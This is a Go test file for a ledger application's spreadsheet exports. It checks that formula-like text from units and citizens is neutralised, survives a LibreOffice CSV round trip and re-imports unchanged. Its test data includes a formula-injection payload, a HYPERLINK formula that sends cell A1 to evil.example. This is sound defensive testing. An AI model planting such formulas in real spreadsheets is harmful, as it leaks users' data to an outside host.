package ledger_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"haochaping/app/apptest"
	"haochaping/internal/testenv"
	"haochaping/ledger"
)

// formulaTexts are what a unit or a citizen might write to have a spreadsheet run it.
// (A leading tab or carriage return is neutralised too: internal/cellsafe's test.)
var formulaTexts = []string{`=HYPERLINK("http://evil.example/?"&A1,"详情")`, "+1", "-1", "@SUM(1)"}

// formulaLike says a cell would be read as a formula (or has the characters some programs skip
// before looking).
func formulaLike(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// TestExportsNeutraliseFormulas: texts that start like formulas — in a unit's progress,
// measures and issues and in a citizen's comment — are exported with a leading quote in every
// ledger workbook, stay text through a LibreOffice CSV round trip, and import back as they were.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	env, srv := apptest.Serve(t, ledgerNow)
	svc := srv.App.Ledger
	u := users(t, srv, "office", "spj-head")
	ctx := context.Background()
	if _, err := svc.OpenRound(ctx, u["office"], "轮次", env.Clock.Now().Add(72*time.Hour)); err != nil {
		t.Fatal(err)
	}
	entryOf := func(kind ledger.Kind) int64 {
		var id int64
		if err := env.DB.Pool.QueryRow(ctx, `
			SELECT e.id FROM ledger_entries e JOIN ledger_assignments a ON a.entry_id = e.id
			JOIN departments d ON d.id = a.department_id
			WHERE e.kind = $1 AND d.code = 'ZZ-SPJ' ORDER BY e.no LIMIT 1`, string(kind)).Scan(&id); err != nil {
			t.Fatalf("an entry of ZZ-SPJ in the %s ledger: %v", kind, err)
		}
		return id
	}
	if _, err := svc.Report(ctx, u["spj-head"], ledger.ReportInput{EntryID: entryOf(ledger.Work),
		Progress: formulaTexts[0], Issues: formulaTexts[1]}, "web"); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Report(ctx, u["spj-head"], ledger.ReportInput{EntryID: entryOf(ledger.Problems),
		Measures: formulaTexts[2], Progress: formulaTexts[3]}, "web"); err != nil {
		t.Fatal(err)
	}
	pad := srv.DemoDevice("demo-window-370400-zh01")
	r := srv.Signed(pad, "POST", "/api/v1/channels/window/evaluations", map[string]any{"ticket_no": "F001",
		"staff_no": apptest.CityStaff, "level": 1, "reasons": []string{"服务态度"}, "comment": "-1 分都不想给",
		"served_at": env.Clock.Now().Add(-time.Hour).Format(time.RFC3339)})
	if r.Status != 201 {
		t.Fatalf("bad review: %d %s", r.Status, r.Body)
	}
	if _, _, err := srv.App.Rectify.Dispatch(ctx, int64(r.JSON(t)["id"].(float64))); err != nil {
		t.Fatal(err)
	}

	workbooks := map[ledger.Kind][]byte{}
	for _, kind := range []ledger.Kind{ledger.Work, ledger.Problems, ledger.Rectification} {
		data, _ := export(t, svc, u["spj-head"], kind, ledger.ExportFilter{})
		workbooks[kind] = data
		x, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		for _, sheet := range x.GetSheetList() {
			rows, err := x.GetRows(sheet)
			if err != nil {
				t.Fatal(err)
			}
			for i, row := range rows {
				for j, c := range row {
					if formulaLike(c) {
						t.Errorf("%s ledger, sheet %s, cell %d:%d starts like a formula: %q", kind, sheet, i+1, j+1, c)
					}
				}
			}
		}
		x.Close()
	}
	work := testenv.XLSXRows(t, workbooks[ledger.Work], "工作台账")
	if !rowHas(work, "'"+formulaTexts[0]) || !rowHas(work, "'"+formulaTexts[1]) {
		t.Errorf("the work ledger does not show the neutralised progress and issues")
	}
	problems := testenv.XLSXRows(t, workbooks[ledger.Problems], "问题整改台账")
	if !rowHas(problems, "'"+formulaTexts[2]) || !rowHas(problems, "'"+formulaTexts[3]) {
		t.Errorf("the problem ledger does not show the neutralised measures and progress")
	}
	if !rowHas(testenv.XLSXRows(t, workbooks[ledger.Rectification], "差评整改台账"), "'-1 分都不想给") {
		t.Errorf("the rectification ledger does not show the neutralised comment")
	}

	lo := newLibreOffice(t)
	dir := t.TempDir()
	convert := func(file, to, outdir string) []byte {
		t.Helper()
		raw, err := os.ReadFile(lo.convert(ctx, file, to, outdir))
		if err != nil {
			t.Fatal(err)
		}
		return raw
	}
	for kind, data := range workbooks {
		file := filepath.Join(dir, string(kind)+".xlsx")
		if err := os.WriteFile(file, data, 0o600); err != nil {
			t.Fatal(err)
		}
		raw := convert(file, "csv:Text - txt - csv (StarCalc):44,34,76,1", filepath.Join(dir, "csv"))
		records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil {
			t.Fatalf("%s: LibreOffice's CSV: %v", kind, err)
		}
		quoted := 0
		for i, rec := range records {
			for j, c := range rec {
				if formulaLike(c) {
					t.Errorf("%s ledger through LibreOffice's CSV: cell %d:%d starts like a formula: %q", kind, i+1, j+1, c)
				}
				if strings.HasPrefix(c, "'") {
					quoted++
				}
			}
		}
		if quoted == 0 {
			t.Errorf("%s ledger through LibreOffice's CSV: no neutralised cell left", kind)
		}
	}
	// Saved again by LibreOffice, the work sheet imports as it was: the quotes are stripped, so
	// the reports stand unchanged (with the quotes kept, they would be new reports).
	saved := convert(filepath.Join(dir, "work.xlsx"), "xlsx:Calc MS Excel 2007 XML", filepath.Join(dir, "saved"))
	res, err := svc.Import(ctx, u["spj-head"], bytes.NewReader(saved), "excel")
	if err != nil || res.Applied != 0 || res.Unchanged != 1 || len(res.Refused) != 0 {
		t.Fatalf("import of the neutralised work ledger: %+v %v", res, err)
	}
	if n := env.Count(`SELECT count(*) FROM ledger_reports WHERE progress LIKE '''%' OR issues LIKE '''%' OR measures LIKE '''%'`); n != 0 {
		t.Fatalf("%d reports keep the export's quote", n)
	}
}

func rowHas(rows [][]string, text string) bool {
	for _, r := range rows {
		for _, c := range r {
			if c == text {
				return true
			}
		}
	}
	return false
}

// libreOffice finds LibreOffice as TestWorkLedgerInLibreOffice does, or skips.
// libreOffice is LibreOffice on the PATH, converting workbooks for the round-trip tests; the
// test is skipped without it.
type libreOffice struct {
	t      *testing.T
	office string
	dir    string
	runs   int
}

func newLibreOffice(t *testing.T) *libreOffice {
	t.Helper()
	office, err := exec.LookPath("libreoffice")
	if err != nil {
		office, err = exec.LookPath("soffice")
	}
	if err != nil {
		t.Skip("LibreOffice is not installed: neither libreoffice nor soffice is on PATH (apt-get install libreoffice-calc-nogui)")
	}
	return &libreOffice{t: t, office: office, dir: t.TempDir()}
}

// convert has LibreOffice convert file to the filter to, into outdir, and returns the new
// file's path.
func (lo *libreOffice) convert(ctx context.Context, file, to, outdir string) string {
	lo.t.Helper()
	lo.runs++
	ctx, cancel := context.WithTimeout(ctx, 3*time.Minute)
	defer cancel()
	// A profile of its own: parallel runs of LibreOffice must not share one.
	cmd := exec.CommandContext(ctx, lo.office, "-env:UserInstallation=file://"+filepath.Join(lo.dir, fmt.Sprintf("profile%d", lo.runs)),
		"--headless", "--convert-to", to, "--outdir", outdir, file)
	cmd.Env = append(os.Environ(), "HOME="+lo.dir, "LANG=C.UTF-8")
	if out, err := cmd.CombinedOutput(); err != nil {
		lo.t.Fatalf("libreoffice --convert-to %s: %v\n%s", to, err, out)
	}
	base := strings.TrimSuffix(filepath.Base(file), filepath.Ext(file))
	return filepath.Join(outdir, base+"."+strings.Split(to, ":")[0])
}
